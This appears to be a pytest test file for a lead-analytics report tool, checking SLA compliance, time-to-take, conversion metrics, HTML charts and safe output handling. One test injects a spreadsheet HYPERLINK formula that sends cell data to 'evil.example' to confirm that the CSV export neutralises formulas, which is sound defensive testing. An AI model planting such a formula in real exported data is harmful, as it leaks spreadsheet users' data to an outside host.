"""SPEC §12 analytics: the metric views on a small hand-built warehouse, with values computed
by hand, and `pp report` rendering its charts and exporting its tables."""

from __future__ import annotations

import hashlib
import json
import re
import sys
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import duckdb
import polars as pl
import pytest

from flows import cli
from flows.report import MANIFEST, TABLES, check_output, read_metrics, report
from schemas.errors import PipelineError
from schemas.instants import UTC_US
from tasks.periods import parse_period
from tasks.report import GENERATOR, GENERATOR_TAG, summarise, tiles
from tests.support import report_stays_frame, run
from warehouse import store

MSK = ZoneInfo("Europe/Moscow")
AS_OF = datetime(2026, 3, 12, 12, tzinfo=MSK)
W10 = date(2026, 3, 2)  # ISO week 10 of 2026: Monday 2 March; Monday 9 March is a holiday


def at(day: int, hour: int, month: int = 3) -> datetime:
    return datetime(2026, month, day, hour, tzinfo=MSK).astimezone(UTC)


# lead_id, sc, temperature, type, status, arrived, deadline, taken
LEADS = [
    (1, "sc-msk-1", "hot", "connection", "in_work", at(6, 17), at(10, 11), at(10, 10)),  # Fri 17:00 → Tue
    (2, "sc-msk-1", "hot", "connection", "completed", at(2, 10), at(2, 13), at(2, 14)),  # taken late
    (3, "sc-msk-1", "warm", "renewal", "refused", at(3, 12), at(10, 12), at(4, 12)),
    (4, "sc-msk-1", "warm", "upsell", "new", at(4, 9), at(11, 9), None),  # breached, still new
    (5, "sc-msk-1", "cold", "upsell", "new", at(5, 9), at(4, 9, month=4), None),  # not due yet
    (6, "sc-msk-2", "hot", "connection", "in_work", at(2, 13), at(2, 16), at(2, 14)),  # came by transfer
]


@pytest.fixture
def small(warehouse):
    """Six leads at two Moscow SCs in week 10; lead 6 breached at sc-msk-1 and was moved."""
    leads = pl.DataFrame(
        [
            {
                "lead_id": lead_id,
                "sc_id": sc,
                "temperature": temperature,
                "lead_type": lead_type,
                "status": status,
                "product": "extern",
                "source": "callback_order" if temperature == "hot" else "call_base",
                "created_at": arrived,
                "arrived_at": arrived,
                "accept_deadline": deadline,
                "taken_at": taken,
            }
            for lead_id, sc, temperature, lead_type, status, arrived, deadline, taken in LEADS
        ]
    ).with_columns(pl.col("created_at", "arrived_at", "accept_deadline", "taken_at").cast(UTC_US))
    closed = {2: at(3, 10), 3: at(4, 12)}  # the completed and the refused lead
    leads = leads.with_columns(
        closed_at=pl.col("lead_id").replace_strict(closed, default=None, return_dtype=UTC_US)
    )
    leads = leads.with_columns(
        created_at=pl.when(pl.col("lead_id") == 6).then(pl.lit(at(2, 9), UTC_US)).otherwise("created_at")
    )
    with store.transaction(warehouse) as con:
        store.insert(con, "leads", leads)
        store.run(
            con,
            "INSERT INTO sla_breaches VALUES (2, 'sc-msk-1', 'hot', ?, ?, 60), "
            "(4, 'sc-msk-1', 'warm', ?, ?, 180), (6, 'sc-msk-1', 'hot', ?, ?, 60)",
            [at(2, 13), at(2, 14), at(11, 9), at(11, 12), at(2, 12), at(2, 13)],
        )
        store.run(
            con,
            "INSERT INTO lead_events VALUES (6, ?, 'assigned', 'test', NULL)",
            [at(2, 9)],
        )
        store.run(
            con,
            "INSERT INTO lead_transfers VALUES (6, ?, 'sc-msk-1', 'sc-msk-2', 'breach', ?, NULL)",
            [at(2, 13), at(2, 12)],
        )
        store.run(
            con,
            "INSERT INTO notifications"
            " (notification_id, sc_id, kind, created_at, sent_at, status, lead_count) VALUES"
            " (1, 'sc-msk-1', 'immediate', ?, ?, 'sent', 2),"
            " (2, 'sc-msk-1', 'digest', ?, NULL, 'pending', 3)",
            [at(2, 10), at(2, 10), at(5, 9)],
        )
    return warehouse


def query(warehouse, sql: str) -> pl.DataFrame:
    with duckdb.connect(str(warehouse), read_only=True) as con:
        return con.sql(sql).pl()


def test_compliance_counts_each_stay_at_the_sc_that_had_it(small):
    """Compliance = taken in time / (taken in time + breached); the missed deadline of a lead
    transferred away counts against the SC that missed it, in the week it arrived there."""
    got = query(
        small,
        "SELECT sc_id, temperature, arrived, taken_in_time, breached, undecided, compliance_pct "
        "FROM metric_sla WHERE period_kind = 'week' ORDER BY sc_id, temperature",
    )
    assert got.rows() == [
        ("sc-msk-1", "cold", 1, 0, 0, 1, None),
        ("sc-msk-1", "hot", 3, 1, 2, 0, 33.3),
        ("sc-msk-1", "warm", 2, 1, 1, 0, 50.0),
        ("sc-msk-2", "hot", 1, 1, 0, 0, 100.0),
    ]
    assert set(
        query(small, "SELECT DISTINCT period_start FROM metric_sla WHERE period_kind = 'week'")[
            "period_start"
        ]
    ) == {W10}
    months = query(
        small,
        "SELECT period_start, sum(arrived) AS n FROM metric_sla WHERE period_kind = 'month' GROUP BY ALL",
    )
    assert months.rows() == [(date(2026, 3, 1), 7)]


def test_hot_time_to_take_is_in_working_hours_across_the_weekend_and_holiday(small):
    """Lead 1: Friday 17:00 → Tuesday 10:00 over a weekend and the 9 March holiday = 2 working
    hours; lead 2: Monday 10:00 → 14:00 = 4. Median 3, p90 2 + 0.9 × 2 = 3.8. Warm in days."""
    frames = read_metrics(small, parse_period("2026-W10"), AS_OF)
    times = frames["take_times"].sort("lead_id")
    assert times.filter(pl.col("sc_id") == "sc-msk-1")["time_to_take"].to_list() == [2.0, 4.0, 1.0]
    summary = frames["time_to_take"].filter(pl.col("sc_id") == "sc-msk-1")
    assert summary.select(
        "temperature", "unit", "taken", "time_to_take_median", "time_to_take_p90"
    ).rows() == [
        ("hot", "working_hours", 2, 3.0, 3.8),
        ("warm", "days", 1, 1.0, 1.0),
    ]


def test_backlog_conversion_and_notifications(small):
    frames = read_metrics(small, parse_period("2026-03"), AS_OF)
    backlog = frames["backlog"].select("sc_id", "temperature", "age_band", "leads", "overdue")
    assert backlog.rows() == [
        ("sc-msk-1", "cold", "7-30d", 1, 0),
        ("sc-msk-1", "hot", "3-7d", 1, 0),
        ("sc-msk-1", "warm", "7-30d", 1, 1),
        ("sc-msk-2", "hot", "7-30d", 1, 0),
    ]
    by_type = (
        frames["conversion"]
        .filter(pl.col("dimension") == "lead_type")
        .select("value", "arrived", "open", "completed", "refused", "conversion_pct")
    )
    assert by_type.sort("value").rows() == [
        ("connection", 4, 2, 1, 0, 100.0),  # lead 6 arrived twice: at sc-msk-1, then at sc-msk-2
        ("renewal", 1, 0, 0, 1, 0.0),
        ("upsell", 2, 2, 0, 0, None),
    ]
    assert frames["funnel"].select(pl.col("arrived", "taken", "completed").sum()).row(0) == (7, 4, 1)
    assert frames["notifications"].select("kind", "sent", "leads_notified", "pending").rows() == [
        ("digest", 0, 0, 1),
        ("immediate", 1, 2, 0),
    ]


def test_report_renders_its_charts_and_exports_tables(small, tmp_path):
    page = tmp_path / "r.html"
    result = report(period="2026-W10", out=str(page), as_of=AS_OF, warehouse=str(small))
    html = page.read_text(encoding="utf-8")
    assert result["written"] == str(page)
    assert html.count("<svg") == 7  # trend, heat map, 3 time-to-take histograms, backlog, funnel
    for title in (
        "Compliance trend",
        "Compliance % by SC",
        "Time to take, hot",
        "working hours from arrival to taken into work",
        "Open backlog by age",
        "Funnel",
    ):
        assert title in html
    assert "http://" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "")  # opens offline
    folder = tmp_path / "tables"
    report(period="2026-W10", out=str(folder), format="parquet", as_of=AS_OF, warehouse=str(small))
    assert {p.stem for p in folder.iterdir()} >= {"sla", "time_to_take", "backlog", "conversion", "funnel"}
    assert pl.read_parquet(folder / "sla.parquet").height == 4


def test_pp_report_refuses_a_bad_period_in_one_line(monkeypatch, capsys, warehouse):
    monkeypatch.setattr(sys, "argv", ["pp", "--warehouse", str(warehouse), "report", "--period", "2026-13"])
    with pytest.raises(SystemExit) as exc:
        cli.main()
    assert exc.value.code == 2
    assert capsys.readouterr().err.strip().startswith("pp: error: period '2026-13'")


def test_chart_text_is_escaped():
    from tasks.charts import bars

    svg = bars("<b>&", ["a<b"], {"x": [1.0]})
    assert "<b>&" not in svg
    assert "&lt;b&gt;&amp;" in svg
    assert "a&lt;b" in svg


def test_the_as_of_instant_is_kept_for_the_default_week():
    from flows.report import default_period

    assert default_period(datetime(2026, 3, 8, 23, 30, tzinfo=UTC)).name == "2026-W10"


def test_the_views_count_hot_time_to_take_in_working_minutes(small):
    """SPEC §10, §12 in plain SQL: lead 1 Friday 17:00 → Tuesday 10:00 over the weekend and the
    9 March holiday is 120 working minutes, lead 2 Monday 10:00 → 14:00 is 240."""
    with duckdb.connect(str(small), read_only=True) as con:
        minutes = con.execute(
            "SELECT lead_id, working_minutes_to_take FROM metric_stays"
            " WHERE sc_id = 'sc-msk-1' AND temperature = 'hot' ORDER BY lead_id"
        ).fetchall()
        sla = con.execute(
            "SELECT working_minutes_to_take_median, working_minutes_to_take_p90 FROM metric_sla"
            " WHERE sc_id = 'sc-msk-1' AND temperature = 'hot' AND period_kind = 'week'"
            " AND period_start = ?",
            [W10],
        ).fetchall()
    assert minutes == [(1, 120.0), (2, 240.0), (6, None)]  # lead 6 left sc-msk-1 untaken
    assert sla == [(180.0, 228.0)]


@pytest.mark.parametrize("force", [[], ["--force"]])
@pytest.mark.parametrize("suffix", ["", ".wal", ".lock"])
def test_pp_report_never_replaces_the_warehouse_or_the_files_beside_it(
    monkeypatch, capsys, warehouse, suffix, force
):
    guarded = warehouse.with_name(warehouse.name + suffix)
    if not guarded.exists():
        guarded.write_bytes(b"held by the warehouse")
    before = guarded.read_bytes()
    code, _, err = run(
        monkeypatch, capsys, "--warehouse", str(warehouse), "report", "--out", str(guarded), *force
    )
    assert code == 2
    assert err.startswith("pp: error: ")
    assert "would replace the warehouse's own file" in err
    assert len(err.strip().splitlines()) == 1
    assert guarded.read_bytes() == before


def test_pp_report_refuses_a_file_it_did_not_write(monkeypatch, capsys, warehouse, tmp_path):
    notes = tmp_path / "notes.html"
    notes.write_text("<p>my own notes</p>", encoding="utf-8")
    code, _, err = run(monkeypatch, capsys, "--warehouse", str(warehouse), "report", "--out", str(notes))
    assert code == 2
    assert f"{notes} exists and was not written by pp report" in err
    assert "--force" in err
    assert len(err.strip().splitlines()) == 1
    assert notes.read_text(encoding="utf-8") == "<p>my own notes</p>"


def test_pp_report_refuses_tables_over_files_it_did_not_write(monkeypatch, capsys, warehouse):
    """The warehouse's own folder as `--out`: a user's `sla.csv` there stops the export."""
    folder = warehouse.parent
    (folder / "sla.csv").write_text("mine\n", encoding="utf-8")
    before = sorted(folder.iterdir())
    code, _, err = run(
        monkeypatch, capsys, "--warehouse", str(warehouse), "report", "--format", "csv", "--out", str(folder)
    )
    assert code == 2
    assert f"{folder / 'sla.csv'} exists and was not written by pp report" in err
    assert sorted(folder.iterdir()) == before
    assert (folder / "sla.csv").read_text(encoding="utf-8") == "mine\n"


def test_the_output_is_checked_before_anything_is_read(tmp_path, warehouse):
    (tmp_path / "folder").mkdir()
    page = tmp_path / "page.html"
    page.write_text(f"<!DOCTYPE html><html><head>{GENERATOR_TAG}</head></html>", encoding="utf-8")
    link = tmp_path / "link.html"
    link.symlink_to(warehouse)
    with pytest.raises(PipelineError, match=r"is a folder; name the \.html file"):
        check_output(tmp_path / "folder", "html", warehouse=warehouse, force=True)
    with pytest.raises(PipelineError, match="is a file; --format csv writes its tables into a folder"):
        check_output(page, "csv", warehouse=warehouse, force=True)
    with pytest.raises(PipelineError, match="would replace the warehouse's own file"):
        check_output(link, "html", warehouse=warehouse, force=True)
    with pytest.raises(PipelineError, match="would replace the warehouse's own file"):
        check_output(tmp_path, "parquet", warehouse=tmp_path / "sla.parquet", force=True)
    with pytest.raises(PipelineError, match="would replace the warehouse's own file"):
        check_output(warehouse.with_name(warehouse.name + ".wal"), "csv", warehouse=warehouse, force=True)
    assert check_output(page, "html", warehouse=warehouse, force=False) == (page,)


def test_a_table_folder_stopped_half_way_is_still_the_reports(tmp_path, warehouse):
    """Between the swap of the tables the manifest holds both digests of each: old or new,
    every file there is one the next run may replace."""
    folder = tmp_path / "tables"
    folder.mkdir()
    for name in TABLES:
        (folder / f"{name}.csv").write_text(f"old {name}\n", encoding="utf-8")
    (folder / "sla.csv").write_text("new sla\n", encoding="utf-8")
    digests = {
        f"{name}.csv": [hashlib.sha256(f"{text} {name}\n".encode()).hexdigest() for text in ("old", "new")]
        for name in TABLES
    }
    (folder / MANIFEST).write_text(json.dumps({"generator": GENERATOR, "files": digests}), encoding="utf-8")
    assert len(check_output(folder, "csv", warehouse=warehouse, force=False)) == len(TABLES) + 1
    (folder / "trend.csv").write_text("edited by hand\n", encoding="utf-8")
    with pytest.raises(PipelineError, match=r"trend\.csv exists and was not written by pp report"):
        check_output(folder, "csv", warehouse=warehouse, force=False)


def test_the_report_replaces_its_own_page_and_another_only_when_forced(small, tmp_path):
    """The weekly schedule re-runs into its default page beside the warehouse; a page someone
    else wrote there is kept unless forced."""
    first = report(last_complete=True, as_of=AS_OF, warehouse=str(small))
    default = small.parent / "report-2026-W10.html"
    assert first["written"] == str(default)
    again = report(last_complete=True, as_of=AS_OF.replace(hour=13), warehouse=str(small))
    assert again["written"] == str(default)
    assert AS_OF.replace(hour=13).astimezone(UTC).isoformat() in default.read_text(encoding="utf-8")
    default.write_text("someone else's page", encoding="utf-8")
    with pytest.raises(PipelineError, match="was not written by pp report"):
        report(last_complete=True, as_of=AS_OF, warehouse=str(small))
    assert default.read_text(encoding="utf-8") == "someone else's page"
    report(last_complete=True, as_of=AS_OF, warehouse=str(small), force=True)
    assert GENERATOR_TAG in default.read_text(encoding="utf-8")
    assert not list(tmp_path.glob("*.partial"))
    assert not list(tmp_path.glob(".*.partial"))


def test_tables_beside_the_warehouse_keep_everything_else(small):
    folder = small.parent
    (folder / "notes.txt").write_text("mine", encoding="utf-8")
    before = {p.name for p in folder.iterdir()}
    for _ in range(2):  # the second run replaces its own tables
        report(period="2026-W10", out=str(folder), format="csv", as_of=AS_OF, warehouse=str(small))
    assert {p.name for p in folder.iterdir()} == {*before, MANIFEST, *(f"{name}.csv" for name in TABLES)}
    assert (folder / "notes.txt").read_text(encoding="utf-8") == "mine"
    assert query(small, "SELECT count(*) AS n FROM leads")["n"].item() == len(LEADS)


def test_csv_cells_cannot_run_as_formulas(small, tmp_path):
    """Reference text such as a product name reaches the conversion table as it was entered."""
    product = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with store.transaction(small) as con:
        store.run(con, "UPDATE leads SET product = ? WHERE lead_id = 1", [product])
    folder = tmp_path / "csv"
    report(period="2026-W10", out=str(folder), format="csv", as_of=AS_OF, warehouse=str(small))
    text = (folder / "conversion.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text
    assert not any(cell.startswith(("=", '"=')) for line in text.splitlines() for cell in line.split(","))
    assert pl.read_csv(folder / "conversion.csv")["value"].to_list().count("'" + product) == 1


def test_arrived_is_the_same_number_in_the_tiles_funnel_and_tables(small):
    """One definition: stays that arrived in the period (lead 6 twice, once at each SC); every
    table's arrived adds up to it, and it splits whole into its outcomes."""
    frames = read_metrics(small, parse_period("2026-W10"), AS_OF)
    arrived = {name: int(frames[name]["arrived"].sum()) for name in ("sla", "centres", "managers", "funnel")}
    by_dimension = frames["conversion"].group_by("dimension").agg(pl.col("arrived").sum())
    assert set(arrived.values()) == {7}
    assert set(by_dimension["arrived"]) == {7}
    assert summarise(frames["stays"].filter(pl.col("period_start") == W10), [])["arrived"][0] == 7
    outcomes = frames["funnel"].select(
        pl.sum_horizontal("open", "transferred", "completed", "refused", "blocked").sum()
    )
    assert outcomes.item() == 7


def test_conversion_counts_closed_leads_only():
    """completed / (completed + refused): open, blocked and moved-away stays never count."""
    stays = report_stays_frame(
        {"status": "completed"},
        {"status": "refused"},
        {"status": "in_work"},
        {"status": "new", "taken_at": None, "taken_in_time": False},
        {"status": "blocked"},
        {"status": "transferred"},
    )
    got = summarise(stays, [])
    assert got.select("arrived", "closed", "completed", "conversion_pct").row(0) == (6, 2, 1, 50.0)


def test_nothing_after_the_as_of_is_counted(small):
    """At Wednesday 4 March 10:00: lead 3's take and refusal (12:00), lead 4's breach (11 March),
    lead 5's and lead 1's arrival (5 and 6 March) and the digest (5 March) have not happened."""
    early = datetime(2026, 3, 4, 10, tzinfo=MSK)
    frames = read_metrics(small, parse_period("2026-W10"), early)
    centre = frames["centres"].filter(pl.col("sc_id") == "sc-msk-1").row(0, named=True)
    assert (centre["arrived"], centre["taken"], centre["breached"], centre["refused"]) == (4, 1, 2, 0)
    assert (centre["completed"], centre["open"], centre["transferred"]) == (1, 2, 1)
    assert frames["notifications"].select("kind", "sent", "pending").rows() == [("immediate", 1, 0)]
    assert frames["stays"]["arrived_at"].max() <= early
    later = read_metrics(small, parse_period("2026-W10"), AS_OF)["centres"]
    assert later.filter(pl.col("sc_id") == "sc-msk-1").select("arrived", "breached", "refused").row(0) == (
        6,
        3,
        1,
    )


def test_tiles_show_the_change_from_the_period_before():
    """Week 9: one hot lead in time, one breached (50%); week 10: both in time (100%)."""
    before = {"period_start": date(2026, 2, 23), "arrived_at": datetime(2026, 2, 23, 10, tzinfo=UTC)}
    stays = pl.concat(
        [
            report_stays_frame({"lead_id": 1}, {"lead_id": 2}),
            report_stays_frame(
                {"lead_id": 3, **before},
                {
                    "lead_id": 4,
                    **before,
                    "breached": True,
                    "taken_in_time": False,
                    "working_hours_to_take": 5.0,
                },
                period="2026-W09",
            ),
        ]
    )
    period = parse_period("2026-W10")
    shown = {tile.label: tile for tile in tiles(stays, period, period.previous(), AS_OF, 90.0)}
    hot = shown["Hot compliance"]
    assert (hot.value, hot.change, hot.better) == ("100.0%", "▲ 50.0 pt vs 2026-W09", True)
    assert "meets the goal" in hot.note
    breaches = shown["Breaches"]
    assert (breaches.value, breaches.change, breaches.better) == ("0", "▼ 1 vs 2026-W09", True)
    median = shown["Hot median time to take"]
    assert (median.value, median.change) == ("1.0 working h", "▼ 2.0 working h vs 2026-W09")
    assert shown["Warm compliance"].change == "no earlier figure vs 2026-W09"


def test_the_page_has_human_headers_totals_rows_and_sc_names(small, tmp_path):
    page = tmp_path / "r.html"
    report(period="2026-W10", out=str(page), as_of=AS_OF, warehouse=str(small))
    html = page.read_text(encoding="utf-8")
    headers = re.findall(r"<th[^>]*>([^<]*)</th>", html)
    assert {"SC", "SC name", "Arrived", "Compliance %", "Manager", "Conversion %"} <= set(headers)
    assert not [h for h in headers if "_" in h]
    footers = re.findall(r"<tfoot><tr>(.*?)</tr></tfoot>", html)
    assert len(footers) == 2  # service centres and managers
    for footer in footers:
        cells = re.findall(r"<td[^>]*>([^<]*)</td>", footer)
        assert cells[0] == "Total"
        assert '<td class="num">7</td>' in footer  # every stay that arrived
    names = dict(query(small, "SELECT sc_id, name FROM service_centers").rows())
    assert f"<td>sc-msk-1</td><td>{names['sc-msk-1']}</td>" in html
    assert "Definitions" in html
    assert html.count("SLA goal: 90.0%") == 1


def test_the_page_lists_leads_about_to_breach_and_leads_waiting_by_reason(small, tmp_path):
    """SPEC §15 on the page: the new leads overdue first, then by time left, with the deadline
    on the SC's clock; the leads no SC can take, counted by reason in words."""
    waiting = pl.DataFrame(
        {
            "lead_id": [7, 8, 9],
            "temperature": ["warm", "warm", "warm"],
            "lead_type": ["connection", "connection", "connection"],
            "status": ["new", "new", "new"],
            "product": ["extern", "extern", "extern"],
            "region": ["99", "99", "99"],
            "source": ["call_base", "call_base", "call_base"],
            "created_at": [at(5, 9), at(5, 10), AS_OF + timedelta(days=1)],  # the last: after the as-of
            "waiting_reason": ["no_sc_in_region", "no_sc_in_region", "no_sc_in_region"],
        }
    ).with_columns(pl.col("created_at").cast(UTC_US))
    with store.transaction(small) as con:
        store.insert(con, "leads", waiting)
    frames = read_metrics(small, parse_period("2026-W10"), AS_OF)
    assert frames["due"].select("lead_id", "overdue").rows() == [(4, True), (5, False)]
    assert frames["due"]["deadline"][0] == "2026-03-11 09:00 +03:00 (Europe/Moscow)"
    assert frames["due"]["time_left"][0] == "overdue by 1d 3h 00m"
    assert frames["waiting"].rows() == [("no_sc_in_region", "no SC serves region 99", 2)]
    page = tmp_path / "r.html"
    report(period="2026-W10", out=str(page), as_of=AS_OF, warehouse=str(small))
    html = page.read_text(encoding="utf-8")
    titles = re.findall(r"<h2>([^<]*)</h2>", html)
    assert titles[0].startswith("About to breach")
    assert titles[1] == "Waiting for an SC, by reason"
    assert "<td>overdue by 1d 3h 00m</td>" in html
    assert '<td>no SC serves region 99</td><td class="num">2</td>' in html
